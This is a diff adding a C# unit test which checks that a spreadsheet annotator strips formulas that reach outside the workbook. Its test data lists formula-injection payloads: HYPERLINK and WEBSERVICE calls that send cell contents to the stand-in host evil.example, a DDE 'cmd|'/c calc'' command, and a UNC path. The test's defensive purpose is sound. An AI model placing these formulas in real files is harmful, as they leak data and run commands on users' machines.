@@ -112,6 +112,53 @@ public sealed class AnnotatedOriginalTests
         Assert.Equal([false, true], Rosters.Read(bytes, "表.xlsx").OrThrow().Sheets.Select(s => s.Hidden));
     }
 
+    public static TheoryData<string> ReachingOut =>
+    [
+        "HYPERLINK(&quot;http://evil.example/&quot;&amp;C2,&quot;x&quot;)", "WEBSERVICE(&quot;http://evil.example/&quot;&amp;E2)", "cmd|'/c calc'!A1",
+        "[1]Sheet1!A1", "'\\\\evil.example\\[a.xlsx]Sheet1'!A1", "_xlfn.IMAGE(C2)", "RTD(&quot;x&quot;,,&quot;y&quot;)", "hyperlink (C2)",
+        "IMPORTDATA(C2)", "_xlfn.WEBSERVICE\n(C2)", "_xlfn._xlws.FILTERXML(C2,C2)", "INDIRECT(&quot;[a.xlsx]S!A1&quot;)", "CALL(&quot;k&quot;,C2)",
+    ];
+
+    /// <summary>The value stays, as the person saw it; what the workbook computes within itself stays a formula.</summary>
+    [Theory, MemberData(nameof(ReachingOut))]
+    public void No_formula_that_reaches_outside_comes_back(string formula)
+    {
+        var book = new Book()
+            .Sheet("流出", Roster.Header, Roster.Person(id: "1", moved: new Raw($"<c r=\"@\" t=\"str\"><f>{formula}</f><v>2018-03-23</v></c>")))
+            .Sheet(
+                "附表",
+                [new Raw("<c r=\"@\"><f>SUM(1,1)</f><v>2</v></c>"), new Raw($"<c r=\"@\"><f t=\"shared\" ref=\"B1:C1\" si=\"0\">{formula}</f><v>1</v></c>"),
+                    new Raw("<c r=\"@\"><f t=\"shared\" si=\"0\"/><v>1</v></c>")])
+            .Replacing(
+                "</sheets>",
+                $"</sheets><definedNames><definedName name=\"x\">{formula}</definedName><definedName name=\"y\">附表!$A$1</definedName></definedNames>")
+            .Replacing(
+                "</Types>",
+                """<Override PartName="/xl/calcChain.xml" ContentType="a"/><Override PartName="/xl/connections.xml" ContentType="b"/></Types>""")
+            .Replacing(
+                "<Relationship Id=\"rId90\"",
+                """<Relationship Id="r1" Type="c" Target="calcChain.xml"/><Relationship Id="r2" Type="d" Target="connections.xml"/>"""
+                    + "<Relationship Id=\"rId90\"")
+            .With("xl/calcChain.xml", """<calcChain xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><c r="H2" i="1"/></calcChain>""")
+            .With("xl/connections.xml", """<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"/></connections>""")
+            .ToBytes();
+        var parts = Parts(Annotate(book, "表.xlsx", Rosters.Read(book, "表.xlsx").OrThrow()).Bytes);
+        var texts = parts.ToDictionary(p => p.Key, p => System.Text.Encoding.UTF8.GetString(p.Value));
+
+        Assert.DoesNotContain(texts.Keys, k => k is "xl/calcChain.xml" or "xl/connections.xml");
+        foreach (var part in new[] { "[Content_Types].xml", "xl/_rels/workbook.xml.rels" })
+        {
+            Assert.DoesNotContain("calcChain", texts[part], StringComparison.Ordinal);
+            Assert.DoesNotContain("connections", texts[part], StringComparison.Ordinal);
+        }
+
+        var sheets = new[] { 1, 2 }.Select(n => XDocument.Load(new MemoryStream(parts[$"xl/worksheets/sheet{n}.xml"]))).ToList();
+        Assert.Equal(["SUM(1,1)"], sheets.SelectMany(s => s.Descendants(Main + "f")).Select(f => f.Value));
+        Assert.Contains("2018-03-23", sheets[0].Descendants(Main + "v").Select(v => v.Value));
+        Assert.Equal(["2", "1", "1"], sheets[1].Descendants(Main + "v").Select(v => v.Value));
+        Assert.Equal(["#REF!", "附表!$A$1"], XDocument.Load(new MemoryStream(parts["xl/workbook.xml"])).Descendants(Main + "definedName").Select(n => n.Value));
+    }
+
     [Fact]
     public void A_csv_comes_back_as_a_workbook()
     {
